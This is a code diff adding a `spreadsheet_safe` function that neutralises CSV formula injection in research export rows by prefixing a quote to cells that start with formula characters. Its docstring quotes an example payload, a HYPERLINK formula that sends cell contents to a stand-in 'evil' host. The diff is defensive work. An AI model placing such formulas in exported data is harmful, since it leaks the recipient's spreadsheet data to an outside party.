@@ -226,7 +226,24 @@ def research_csv_rows(
     point fetched; `parent_slugs` holds only chains visitors may see)."""
     yield list(RESEARCH_CSV_COLUMNS)
     for step in steps:
-        yield _research_row(step, baselines=baselines, parent_slug=parent_slugs.get(step.chain.parent_id, ""))
+        row = _research_row(step, baselines=baselines, parent_slug=parent_slugs.get(step.chain.parent_id, ""))
+        yield [spreadsheet_safe(cell) for cell in row]
+
+
+# What spreadsheets read as the start of a formula (OWASP's list: =, +, -, @, tab, CR).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(cell):
+    """Text that a spreadsheet would run as a formula, made inert with a leading quote.
+
+    Titles, themes and captions are written by people and by models: a title of
+    `=HYPERLINK("http://evil/?"&A1)` must open as text in whoever's spreadsheet
+    (issue 12). Numbers stay numbers; the quote shows, which is the usual trade.
+    """
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        return "'" + cell
+    return cell
 
 
 def _research_row(step: Step, *, baselines: dict[str, Baseline], parent_slug: str) -> list:
